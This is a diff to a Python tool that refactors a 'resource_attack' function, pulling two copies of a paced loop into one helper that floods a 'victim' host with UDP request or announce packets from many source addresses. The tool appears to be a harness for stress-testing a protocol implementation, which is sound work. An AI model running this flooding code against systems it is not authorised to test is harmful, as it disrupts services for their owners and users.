@@ -450,6 +450,30 @@ def _paced(rate: float, t0: float, n: int) -> bool:
     return n < (time.monotonic() - t0) * rate
 
 
+def _paced_udp(cfg: dict, pkt: bytes, rate: float, end: float, stats: dict, err) -> None:
+    """`pkt` to the victim at `rate` per second from every source in turn,
+    counting what the victim sends back to those addresses."""
+    socks, scope = _udp_socks(cfg, PORT)
+    dest = (cfg["victim"], PORT, 0, scope)
+    t0, n = time.monotonic(), 0
+    while not _stop and time.monotonic() < end:
+        _drain_udp(socks, stats)
+        if not _paced(rate, t0, n):
+            time.sleep(0.0005)
+            continue
+        try:
+            socks[n % len(socks)].sendto(pkt, dest)
+            stats["sent"] += 1
+            stats["bytes_sent"] += len(pkt)
+        except OSError as e:
+            err(e)
+        n += 1
+    time.sleep(1.0)
+    _drain_udp(socks, stats)
+    for sk in socks:
+        sk.close()
+
+
 def resource_attack(cfg: dict) -> dict:
     """cfg: victim, ifname, sources, duration, kind; kinds:
       empty_pushes   one TCP connection: tx_ids x seqnos push-data packets of
@@ -547,26 +571,7 @@ def resource_attack(cfg: dict) -> dict:
         s.close()
 
     elif kind == "udp_requests":
-        socks, scope = _udp_socks(cfg, PORT)
-        dest = (cfg["victim"], PORT, 0, scope)
-        rate, n = cfg.get("rate", 2000), 0
-        req = request(cfg.get("req_type", 64), 0x7777)
-        while not _stop and time.monotonic() < end:
-            _drain_udp(socks, stats)
-            if not _paced(rate, t0, n):
-                time.sleep(0.0005)
-                continue
-            try:
-                socks[n % len(socks)].sendto(req, dest)
-                stats["sent"] += 1
-                stats["bytes_sent"] += len(req)
-            except OSError as e:
-                err(e)
-            n += 1
-        time.sleep(1.0)
-        _drain_udp(socks, stats)
-        for sk in socks:
-            sk.close()
+        _paced_udp(cfg, request(cfg.get("req_type", 64), 0x7777), cfg.get("rate", 2000), end, stats, err)
 
     elif kind == "tcp_requests":
         # an honest peer pipelining two requests gets both answers
@@ -607,25 +612,7 @@ def resource_attack(cfg: dict) -> dict:
         sleep_until(end)
 
     elif kind == "announces":
-        socks, scope = _udp_socks(cfg, PORT)
-        dest = (cfg["victim"], PORT, 0, scope)
-        rate, n = cfg.get("rate", 2000), 0
-        pkt = tlv(1, 0)
-        while not _stop and time.monotonic() < end:
-            _drain_udp(socks, stats)
-            if not _paced(rate, t0, n):
-                time.sleep(0.0005)
-                continue
-            try:
-                socks[n % len(socks)].sendto(pkt, dest)
-                stats["sent"] += 1
-                stats["bytes_sent"] += len(pkt)
-            except OSError as e:
-                err(e)
-            n += 1
-        _drain_udp(socks, stats)
-        for sk in socks:
-            sk.close()
+        _paced_udp(cfg, tlv(1, 0), cfg.get("rate", 2000), end, stats, err)
     else:
         raise SystemExit(f"unknown resource attack {kind}")
     stats["elapsed_s"] = round(time.monotonic() - t0, 2)
